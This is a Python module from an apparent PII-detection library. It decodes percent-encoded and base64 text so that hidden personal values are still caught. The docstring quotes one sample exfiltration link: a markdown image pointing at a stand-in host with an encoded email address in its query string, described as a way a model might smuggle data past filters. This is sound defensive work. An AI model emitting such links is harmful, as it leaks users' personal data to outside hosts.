"""Values hidden by encoding: percent-encoded and base64 runs are decoded and scanned.

A model (or a caller) can carry a value past a pattern recognizer by encoding it, the way an
exfiltration link does: ``![x](https://evil.example/p?d=aigerim%40example.kz)``. Each run
that looks encoded is decoded, the decoded text is scanned by the same pattern recognizers,
and every finding is reported on the whole encoded run: the run is what has to be replaced.

Nothing is skipped, so no decoy can push a value out of reach: every run of a text is
decoded (linear in its length: a run decodes to fewer characters than it has), and all the
decoded runs of a text are scanned in one call, whatever their number. Nesting is bounded
(base64 of a percent-encoded value is found; deeper is not). The hook into the detector is
:class:`DecodingDetector`, a ``Detector`` whose pattern step also scans decoded runs.
"""

from __future__ import annotations

import base64
import binascii
import re
from bisect import bisect_right
from collections.abc import Callable, Iterator
from urllib.parse import unquote

from qorgan.detection.engine import Detector
from qorgan.types import Finding

__all__ = ["MAX_DEPTH", "DecodingDetector", "decoded_runs", "encoded_findings"]

#: a run inside a decoded run is decoded once more (base64 of a percent-encoded value)
MAX_DEPTH = 2
_MIN_BASE64 = 12

# A run of URL characters holding at least one %XX escape. It may only start where a run
# starts: without the look-behind every position inside a long word is tried again, which
# is quadratic in the word's length.
_PERCENT = re.compile(
    r"(?<![A-Za-z0-9._~+\-])[A-Za-z0-9._~+\-]*(?:%[0-9A-Fa-f]{2}[A-Za-z0-9._~+\-]*)+"
)
# Base64 (standard or URL-safe alphabet) with optional padding, not part of a longer word.
_BASE64 = re.compile(
    r"(?<![A-Za-z0-9+/_\-])[A-Za-z0-9+/_\-]{" + str(_MIN_BASE64) + r",}={0,2}"
    r"(?![A-Za-z0-9+/=_\-])"
)
_PRINTABLE_SHARE = 0.9

Analyze = Callable[[str], list[Finding]]


def _printable(text: str) -> bool:
    if not text:
        return False
    shown = sum(1 for ch in text if ch.isprintable() or ch in "\n\r\t")
    return shown / len(text) >= _PRINTABLE_SHARE


def _b64(run: str) -> str | None:
    body = run.rstrip("=")
    # base64 letters never spell a plain word; a run without a digit or case mix is text
    if body.isalpha() and (body.islower() or body.isupper()):
        return None
    padded = body + "=" * (-len(body) % 4)
    decoder = base64.urlsafe_b64decode if ("-" in body or "_" in body) else base64.b64decode
    try:
        raw = decoder(padded)
    except (binascii.Error, ValueError):
        return None
    try:
        text = raw.decode("utf-8")
    except UnicodeDecodeError:
        return None
    return text if _printable(text) else None


def decoded_runs(text: str) -> Iterator[tuple[int, int, str]]:
    """``(start, end, decoded)`` for each encoded run of ``text`` that decodes to text."""
    for match in _PERCENT.finditer(text) if "%" in text else ():
        run = match.group()
        try:
            decoded = unquote(run, errors="strict")
        except UnicodeDecodeError:
            continue
        if decoded != run and _printable(decoded):
            yield match.start(), match.end(), decoded
    for match in _BASE64.finditer(text):
        run = match.group()
        decoded_b64 = _b64(run)
        if decoded_b64 is not None:
            yield match.start(), match.end(), decoded_b64


# decoded runs are scanned as one text, apart enough that no pattern joins two of them
_SEPARATOR = "\n\n"


def encoded_findings(text: str, analyze: Analyze, *, depth: int = MAX_DEPTH) -> list[Finding]:
    """Findings inside the encoded runs of ``text``, each spanning its whole run.

    ``analyze`` scans a decoded text (the detector's pattern step); it is called once for all
    the runs of ``text`` (and once per nesting level). One finding per run and entity type,
    with the best score; the recognizer name says the value was decoded.
    """
    if depth < 1 or ("%" not in text and len(text) < _MIN_BASE64):
        return []
    runs = list(decoded_runs(text))
    if not runs:
        return []
    joined = _SEPARATOR.join(decoded for _, _, decoded in runs)
    starts: list[int] = []
    offset = 0
    for _, _, decoded in runs:
        starts.append(offset)
        offset += len(decoded) + len(_SEPARATOR)
    found = list(analyze(joined))
    if depth > 1:
        found.extend(encoded_findings(joined, analyze, depth=depth - 1))
    best: dict[tuple[int, str], Finding] = {}
    for f in found:
        first = bisect_right(starts, f.start) - 1
        last = bisect_right(starts, max(f.start, f.end - 1)) - 1
        for index in range(max(first, 0), last + 1):
            kept = best.get((index, f.entity_type))
            if kept is None or f.score > kept.score:
                best[(index, f.entity_type)] = f
    out: list[Finding] = []
    for (index, _), f in sorted(best.items()):
        run_start, run_end, _ = runs[index]
        out.append(Finding(f.entity_type, run_start, run_end, f.score, f"{f.recognizer}+decoded"))
    return out


class DecodingDetector(Detector):
    """A :class:`~qorgan.detection.engine.Detector` that also scans encoded runs."""

    def _patterns(self, text: str) -> list[Finding]:
        found = super()._patterns(text)
        found.extend(encoded_findings(text, super()._patterns))
        return found
